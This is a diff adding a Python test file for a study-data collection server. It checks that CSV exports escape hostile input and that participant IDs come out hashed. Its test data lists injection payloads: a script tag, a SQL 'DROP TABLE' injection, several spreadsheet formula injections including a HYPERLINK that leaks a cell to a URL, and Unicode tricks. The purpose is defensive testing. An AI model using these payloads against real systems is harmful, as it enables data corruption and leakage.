@@ -1,0 +1,148 @@
+"""What the administrator downloads: text whatever it holds, and nobody's identity."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import sqlite3
+from collections.abc import Mapping
+from contextlib import closing
+from pathlib import Path
+
+from contstim.experiments.collection.database import Recorder
+from contstim.experiments.collection.tables import PLATFORM, collected_responses
+from contstim.experiments.responses import read_responses
+from contstim.testing.platform import PlantedAnswers, ReadContract
+from tests.experiments.collection.conftest import Serve
+from tests.experiments.collection.servers import answer, write_study
+
+NASTY = (
+    "<script>alert(1)</script>",
+    "\"'`,;\n\r\t'",
+    "Robert'); DROP TABLE response;--",
+    '=HYPERLINK("http://example.org/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "'=1+1",
+    "'quoted'",
+    "＝１＋１",
+    "\t=1+1",
+    "x" * 10_000,
+    "נִקּוּד 🙂 \u202e",
+    "NUL \0 inside",
+)
+FORMULA = re.compile("[=+\\-@\t\r\n＝＋－＠]")
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_nasty_trials_come_out_as_text_and_read_back_as_they_were(
+    serve: Serve, tmp_path: Path
+) -> None:
+    trials = [{"trial_id": text, "sentence_1": text, "sentence_2": text} for text in NASTY]
+    served = serve(write_study(tmp_path / "nasty", {"1": trials}, title=NASTY[0]))
+    joined = served.join()
+    for position, text in enumerate(NASTY, start=1):
+        assert served.save(joined, answer(text, position=position)).json() == {"saved": [text]}
+    assert served.complete(joined).status_code == 200
+    given = served.download("responses")
+    assert given.headers["content-type"].startswith("text/csv")
+    assert given.headers["content-disposition"] == 'attachment; filename="responses.csv"'
+    assert given.headers["x-content-type-options"] == "nosniff"
+    rows = cells(given.text)
+    assert len(rows) == 1 + len(NASTY)
+    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
+    (tmp_path / "responses.csv").write_bytes(given.content)
+    read = read_responses(tmp_path / "responses.csv")
+    assert [one.trial_id for one in read] == list(NASTY)
+    assert read == collected_responses(served.database)
+    page = served.http.get("/study.json")
+    assert page.headers["content-type"] == "application/json"
+    assert [one["sentence_1"] for one in page.json()["groups"]["1"]] == list(NASTY)
+
+
+def test_nasty_identities_are_accepted_once_and_come_out_as_hashes(serve: Serve) -> None:
+    served = serve()
+    for text in NASTY:
+        who = {"PROLIFIC_PID": text, "STUDY_ID": text, "SESSION_ID": text}
+        joined = served.join(platform=who)
+        assert served.join(platform=who)["participant"] == joined["participant"]
+        for wrong in (
+            served.http.post("/api/participants", json={"group": text}),
+            served.http.post("/api/resume", json={"participant": text, "secret": text}),
+        ):
+            assert wrong.status_code in (403, 422)
+            assert wrong.headers["content-type"] == "application/json"
+    given = served.download("participants").text
+    rows = cells(given)
+    assert len(rows) == 1 + len(NASTY)
+    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
+    for row in rows[1:]:
+        assert all(re.fullmatch("[0-9a-f]{32}", cell) for cell in row[-3:])
+    assert not [
+        text for text in NASTY if text in given or text in served.download("responses").text
+    ]
+
+
+def test_hashes_tell_people_apart_within_a_study_and_nothing_between_studies(
+    serve: Serve, tmp_path: Path
+) -> None:
+    hashes = []
+    for name in ("one", "two"):
+        folder = write_study(
+            tmp_path / name, {"1": [{"trial_id": name, "sentence_1": "A.", "sentence_2": "B."}]}
+        )
+        served = serve(folder, database=tmp_path / f"{name}.sqlite")
+        for person in ("anna", "berta"):
+            served.join(platform={"PROLIFIC_PID": person, "STUDY_ID": "s", "SESSION_ID": "t"})
+        hashes.append([row[-3:] for row in cells(served.download("participants").text)[1:]])
+    (anna, berta), (same_anna, _) = hashes
+    assert anna[0] != berta[0]
+    assert anna[1:] == berta[1:]
+    assert not set(anna) & set(same_anna)
+
+
+def test_states_of_participants(serve: Serve) -> None:
+    served = serve(patience=600)
+    done, gone = served.join(), served.join()
+    served.save(done, *(answer(f"t1-{n}") for n in range(4)))
+    served.complete(done)
+    served.now[0] += 601
+    active = served.join()
+    rows = cells(served.download("participants").text)
+    found = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    states = [found[one["participant"]]["state"] for one in (done, gone, active)]
+    assert states == ["complete", "left", "active"]
+    assert found[done["participant"]]["answered"] == "4"
+    assert found[done["participant"]]["completed"] == "1970-01-12T13:46:40+00:00"
+
+
+class TestContract(ReadContract):
+    platform = PLATFORM
+
+    def data(
+        self, folder: Path, out: Path, answers: PlantedAnswers, people: Mapping[str, str]
+    ) -> list[Path]:
+        path = out / "study.sqlite"
+        Recorder(path, "fingerprint").close()
+        lists = self.lists(folder)
+        with closing(sqlite3.connect(path)) as connection:
+            for number, (name, group) in enumerate(people.items(), start=1):
+                connection.execute(
+                    "INSERT INTO participant (number, participant, study_group, seed, joined, seen)"
+                    " VALUES (?, ?, ?, 3, 0, 0)",
+                    (number, name, group),
+                )
+                for position, row in enumerate(answers.shuffled(lists[group]), start=1):
+                    left = int(row["left"])
+                    button, rt_ms = answers.press(name, row["trial_id"], row["left"], position)
+                    rating = button if left == 1 else 7 - button
+                    answer = (number, row["trial_id"], rating, left, position, rt_ms, 0)
+                    marks = ", ".join("?" * len(answer))
+                    connection.execute(f"INSERT INTO response VALUES ({marks})", answer)
+            connection.commit()
+        return [path]
